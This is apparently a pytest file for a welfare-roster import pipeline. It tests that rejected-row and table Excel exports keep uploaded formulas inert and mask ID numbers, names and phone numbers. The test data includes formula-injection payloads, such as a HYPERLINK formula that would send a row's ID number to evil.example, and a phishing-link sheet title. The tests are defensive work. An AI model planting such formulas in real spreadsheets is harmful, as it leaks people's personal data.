"""Rejected rows can be downloaded as .xlsx with a 错误原因 column, fixed and re-uploaded."""

from __future__ import annotations

import io

import openpyxl

from pipeline import db, export, labels
from pipeline.ingest.load import import_bytes

GOOD_ID = "620102201205030014"
BAD_ID = "620102201205030015"


def test_rejected_rows_round_trip_through_the_download(tmp_path):
    csv_text = (
        "身份证号,姓名,对象类别,县区,乡镇,备注\n"
        f"{GOOD_ID},刘斌,孤儿,临河区,临河镇,\n"
        f'{BAD_ID},王五,孤儿,临河区,临河镇,=HYPERLINK("http://x")\n'
        f"{GOOD_ID[:-1]}X,赵六,外星人,临河区,临河镇,\n"
    )
    with db.session(tmp_path / "e.duckdb") as con:
        report = import_bytes(con, csv_text.encode("gb18030"), "台账.csv", today="2026-11-28")
        assert (report.inserted, report.rejected) == (1, 2)
        stored = export.stored_rejections(con, report.batch_id)
        assert [(e.row, e.column) for e in stored] == [(3, "身份证号"), (4, "身份证号、对象类别")]
        history = export.import_history(con)
    assert history[0]["file_name"] == "台账.csv" and history[0]["rejected"] == 2

    sheet = openpyxl.load_workbook(io.BytesIO(export.rejected_workbook(stored))).active
    rows = list(sheet.values)
    assert rows[0] == (
        "身份证号",
        "姓名",
        "对象类别",
        "县区",
        "乡镇",
        "备注",
        "工作表",
        "行号",
        labels.ERROR_REASON_COLUMN,
    )
    assert rows[1][:2] == (BAD_ID, "王五")
    assert rows[1][5] == '\'=HYPERLINK("http://x")'  # a formula from the upload never runs in Excel
    assert rows[1][7] == 3 and "校验位" in rows[1][8]
    assert rows[2][2] == "外星人" and "对象类别" in rows[2][8] and "校验位" in rows[2][8]

    # the fixed file imports cleanly: the downloaded columns are the original headers
    fixed = "身份证号,姓名,对象类别,县区,乡镇\n" + f"{GOOD_ID},王五,孤儿,临河区,临河镇\n"
    with db.session(tmp_path / "e.duckdb") as con:
        again = import_bytes(con, fixed.encode(), "台账-已修改.csv", today="2026-11-28")
    assert (again.updated, again.rejected) == (1, 0)


def _inert(content: bytes) -> list[str]:
    from tests.payloads import formula_cells

    return formula_cells(content)


def test_a_formula_in_an_uploaded_title_stays_text_in_the_rejected_rows(tmp_path):
    # a county office can plant a title that would send the row's full ID number to another site
    title = '=HYPERLINK("http://evil.example/?leak="&A2,"备注")'
    quoted = title.replace('"', '""')
    csv_text = f'身份证号,姓名,对象类别,县区,乡镇,"{quoted}"\n{BAD_ID},王五,孤儿,临河区,临河镇,@SUM(1)\n'
    with db.session(tmp_path / "e.duckdb") as con:
        report = import_bytes(con, csv_text.encode("utf-8"), "台账.csv", today="2026-11-28")
        stored = export.stored_rejections(con, report.batch_id)
    for errors in (report.errors, stored, export.masked_rejections(stored, ["roster"])):
        content = export.rejected_workbook(errors)
        assert _inert(content) == []
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        assert sheet["F1"].value == "'" + title and sheet["F2"].value == "'@SUM(1)"


def test_every_cell_and_sheet_name_of_a_table_download_is_inert():
    import pandas as pd

    frame = pd.DataFrame({"department": ["[市直]单位", "=1+1", "-x", "+86", "@a", "\tb", "\rc", "ok\x07"], "=列": 1})
    for title in (
        "[点此核对名单](http://evil.example/phish)的结对干部",
        "=HYPERLINK(1)",
        "'引号'",
        "History",
        "*?:/\\",
        "",
    ):
        content = export.frame_workbook(frame, title)  # a [ in a department's name made this raise
        assert _inert(content) == [], title
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        assert 0 < len(sheet.title) <= 31 and not sheet.title.startswith("'")
        cells = [c.value.replace("\r", "\n") for c in sheet["A"]][1:]  # (XML may read a carriage return as a line feed)
        assert cells == ["[市直]单位", "'=1+1", "'-x", "'+86", "'@a", "'\tb", "'\nc", "ok"]
    assert (
        export.sheet_title("[点此核对名单](http://evil.example/phish)的结对干部")
        == "［点此核对名单］(http：／／evil.example／ph"
    )
    assert export.sheet_title("History") == labels.EXPORT_SHEET_DEFAULT


def test_masked_rejected_rows_keep_no_full_id_name_or_phone():
    from pipeline.ingest.rows import RowError

    row = {
        "证件号码": "62010220120503001",
        "对象姓名": "王小五",
        "联系方式": "13912345678",
        "备注": "另号620102201205030014",
    }
    masked = export.masked_rejections([RowError("Sheet1", 2, "证件号码", "身份证号“62010220120503001”位数不对", row)])
    assert masked[0].raw == {
        "证件号码": "620102*******3001",  # 17 digits: masked as an ID by its column, not by its look
        "对象姓名": "王*五",
        "联系方式": "139****5678",
        "备注": "另号620102********0014",
    }
    assert masked[0].reason == "身份证号“620102*******3001”位数不对"
    # 联系方式 is the way of contact in a contact log, not a phone
    visit = export.masked_rejections([RowError("走访", 2, "", "", {"联系方式": "电话"})], ["visits"])
    assert visit[0].raw == {"联系方式": "电话"}
